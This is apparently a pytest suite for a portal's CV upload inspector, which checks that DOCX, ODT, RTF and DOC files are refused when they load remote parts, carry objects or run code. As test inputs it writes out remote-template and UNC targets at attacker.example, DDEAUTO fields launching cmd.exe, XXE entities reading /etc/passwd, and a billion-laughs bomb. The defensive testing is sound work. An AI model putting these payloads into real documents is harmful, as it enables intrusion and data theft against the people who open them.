"""DOCX, ODT, RTF and DOC: what takes parts of itself from elsewhere, runs or carries something is refused."""

import io
import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from odf.opendocument import OpenDocumentText
from odf.text import A, P

from portal.attachments.inspection import inspect
from portal.errors import FileKind, UploadReason, UploadRefused
from tests.parts import files

MACHINE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = b'<Relationship Id="r1" Type="%s/attachedTemplate" Target="%s" TargetMode="External"/>'


def refused(content: bytes) -> UploadReason:
    with pytest.raises(UploadRefused) as raised:
        inspect(io.BytesIO(content), max_bytes=10_000_000)
    return raised.value.reason


def extension(content: bytes) -> str:
    return inspect(io.BytesIO(content), max_bytes=10_000_000).extension


def related(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="r1" Type="{MACHINE}/{kind}" Target="{target}"{mode}/>'
    return files.docx({"word/_rels/document.xml.rels": files.RELATIONS % one.encode()})


def document(body: str) -> bytes:
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return files.docx({"word/header1.xml": f'<w:hdr xmlns:w="{name}">{body}</w:hdr>'.encode()})


def written_by_python_docx() -> bytes:
    made, out = docx.Document(), io.BytesIO()
    made.add_heading("Marit Solheim")
    made.add_table(rows=3, cols=2)
    made.add_paragraph("engineer")
    made.save(out)
    return out.getvalue()


def written_by_odfpy(change: Callable[[P], None] = lambda _: None) -> bytes:
    made, out = OpenDocumentText(), io.BytesIO()
    paragraph = P(text="Marit Solheim")
    change(paragraph)
    made.text.addElement(paragraph)
    made.write(out)
    return out.getvalue()


def odt(content: str) -> bytes:
    """A real ODT whose text is this."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(files.real("cv.odt"))) as real, zipfile.ZipFile(out, "w") as made:
        for member in real.infolist():
            text = real.read(member)
            if member.filename == "content.xml":
                text = re.sub(rb"(<office:text[^>]*>)", rb"\1" + content.encode(), text, count=1)
                assert content.encode() in text
            made.writestr(member, text)
    return out.getvalue()


def test_what_other_programs_write_passes() -> None:
    assert extension(written_by_python_docx()) == "docx"
    assert extension(written_by_odfpy()) == "odt"
    assert extension(odt("")) == "odt"


def test_links_that_somebody_has_to_click_pass() -> None:
    assert extension(related("hyperlink", "https://marit.example/")) == "docx"
    assert extension(document('<w:instrText> HYPERLINK "https://marit.example/" </w:instrText>')) == "docx"
    link = A(href="https://marit.example/", text="my page")
    assert extension(written_by_odfpy(lambda paragraph: paragraph.addElement(link))) == "odt"


@pytest.mark.parametrize(
    "target", [r"file:///C:\Users\Marit\Templates\CV.dotx", r"C:\Templates\CV.dotx", "CV.dotx", "/Users/marit/CV.dotx"]
)
def test_a_template_of_the_writers_own_disk_passes_for_word_notes_it_in_every_document(target: str) -> None:
    assert extension(related("attachedTemplate", target)) == "docx"


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "frame", "settings"])
@pytest.mark.parametrize(
    "target",
    [
        "https://attacker.example/x.dotm",
        "HTTP://attacker.example/x",
        "//attacker.example/x",
        r"\\attacker.example\share\x.dotm",
        "file://attacker.example/share/x.dotm",
        "file:////attacker.example/share/x.dotm",
        "ms-word:ofe|u|https://attacker.example/x",
    ],
)
def test_what_comes_from_another_machine_is_refused(kind: str, target: str) -> None:
    assert refused(related(kind, target)) == UploadReason.LOADS


@pytest.mark.parametrize("kind", ["oleObject", "package", "control", "aFChunk", "subDocument"])
@pytest.mark.parametrize("external", [True, False])
def test_what_is_another_file_is_refused(kind: str, external: bool) -> None:
    assert refused(related(kind, "https://attacker.example/x", external=external)) == UploadReason.CARRIES_FILES


def test_macros_are_refused_wherever_they_are_named() -> None:
    assert refused(related("vbaProject", "anything.bin", external=False)) == UploadReason.MACROS
    odd = files.WORD_TYPES.replace(b"main+xml", b"main+xml-macroEnabled")
    assert refused(files.docx(types=odd)) == UploadReason.MACROS
    event = '<text:p><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></text:p>'
    assert refused(odt(event)) == UploadReason.MACROS


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ('<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>', UploadReason.ACTIVE),
        ("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>", UploadReason.ACTIVE),
        ('<w:fldSimple w:instr=" dde Excel x y "/>', UploadReason.ACTIVE),
        ('<w:instrText>INCLUDETEXT "https://attacker.example/x"</w:instrText>', UploadReason.LOADS),
        ('<w:instrText>LINK Word.Document.8 "\\\\attacker.example\\x"</w:instrText>', UploadReason.LOADS),
    ],
)
def test_a_field_that_runs_or_fetches_is_refused(body: str, reason: UploadReason) -> None:
    assert refused(document(body)) == reason


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ('<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>', UploadReason.CARRIES_FILES),
        ('<text:p><draw:plugin xlink:href="x"/></text:p>', UploadReason.CARRIES_FILES),
        ('<draw:frame><draw:image xlink:href="https://attacker.example/x.png"/></draw:frame>', UploadReason.LOADS),
        (
            '<text:section><text:section-source xlink:href="//attacker.example/x"/></text:section>',
            UploadReason.LOADS,
        ),
        ('<text:p><office:dde-source office:dde-application="cmd"/></text:p>', UploadReason.ACTIVE),
    ],
)
def test_an_odt_that_fetches_or_carries_is_refused(content: str, reason: UploadReason) -> None:
    assert refused(odt(content)) == reason


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize("member", ["word/document.xml", "[Content_Types].xml", "customXml/item1.xml"])
@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://attacker.example/x.dtd"> %e;]><x/>',
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><x>&l9;</x>',
    ],
    ids=["a file", "an address", "laughs"],
)
def test_xml_with_entities_is_refused(member: str, text: str) -> None:
    assert refused(files.docx({member: text.encode()})) == UploadReason.SUSPICIOUS


def test_xml_that_is_none_or_nested_without_end_is_refused() -> None:
    assert refused(files.docx({"word/document.xml": b"<x>"})) == UploadReason.DAMAGED
    assert refused(files.docx({"word/document.xml": b"<x>" * 5_000 + b"</x>" * 5_000})) == UploadReason.SUSPICIOUS


def test_an_archive_inside_of_the_document_is_not_unpacked_but_refused() -> None:
    nested = files.docx()
    for _ in range(3):
        nested = files.zipped({"[Content_Types].xml": nested})
    assert refused(files.docx({"word/media/image1.png": nested})) == UploadReason.CARRIES_FILES


def test_a_document_that_is_a_pdf_too_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"  <!-- %PDF-1.4 -->" + files.WORD_TYPES)
        archive.writestr("_rels/.rels", files.RELATIONS % b"")
    assert refused(out.getvalue()) == UploadReason.SUSPICIOUS
    out = io.BytesIO(files.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = files.real("cv.pdf")[-5_000:]
    assert refused(out.getvalue()) == UploadReason.SUSPICIOUS
    assert refused(files.docx() + files.real("cv.pdf")) == UploadReason.DAMAGED


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (files.zipped({"[Content_Types].xml": b"spreadsheetml.sheet.main+xml"}), FileKind.SPREADSHEET),
        (files.zipped({"mimetype": b"application/vnd.oasis.opendocument.presentation"}), FileKind.PRESENTATION),
        (files.zipped({"Index/Document.iwa": b"x", "preview.jpg": b"x"}), FileKind.PAGES),
        (files.zipped({"cv.txt": b"x"}), FileKind.ARCHIVE),
        (b"\0\0\0\x18ftypheic" + bytes(100), FileKind.PICTURE),
        (b"RIFF\0\0\0\0WEBPVP8 ", FileKind.PICTURE),
        (b"ID3\x04" + bytes(50), FileKind.RECORDING),
    ],
)
def test_what_is_no_cv_is_called_what_it_is(content: bytes, kind: FileKind) -> None:
    with pytest.raises(UploadRefused) as raised:
        inspect(io.BytesIO(content), max_bytes=10_000)
    assert (raised.value.reason, raised.value.kind) == (UploadReason.WRONG_TYPE, kind)


def rtf(group: bytes) -> bytes:
    return files.real("cv.rtf").rstrip()[:-1] + group + b"}"


@pytest.mark.parametrize(
    "group",
    [
        rb"{\*\template https://attacker.example/x.dotm}",
        rb"{\*\template \\\\attacker.example\\x.dotm}",
        rb"{\*\template \u104?\u116?\u116?\u112?}",
        rb'{\field{\*\fldinst { INCLUDETEXT "https://attacker.example/x"}}}',
        rb"{\field{\*\fldinst DDEAUTO cmd x}}",
    ],
)
def test_an_rtf_that_fetches_or_runs_is_refused(group: bytes) -> None:
    assert refused(rtf(group)) == UploadReason.LOADS


def test_an_rtf_with_a_template_of_the_writers_own_disk_and_a_link_passes() -> None:
    assert extension(rtf(rb"{\*\template C:\\Users\\Jos\u233?\\CV.dotx}")) == "rtf"
    assert extension(rtf(rb'{\field{\*\fldinst { HYPERLINK "https://marit.example/"}}{\fldrslt me}}')) == "rtf"


@pytest.mark.parametrize("stream", ["\x03ObjInfo", "\x01Ole10Native", "Equation Native"])
def test_a_word_document_that_carries_an_object_is_refused(stream: str) -> None:
    content = files.real("cv.doc")
    former = "\x01CompObj".encode("utf-16-le")
    at = content.index(former)
    named = stream.encode("utf-16-le") + b"\0\0"
    changed = content[:at] + named.ljust(64, b"\0") + len(named).to_bytes(2, "little") + content[at + 66 :]
    assert refused(changed) == UploadReason.CARRIES_FILES
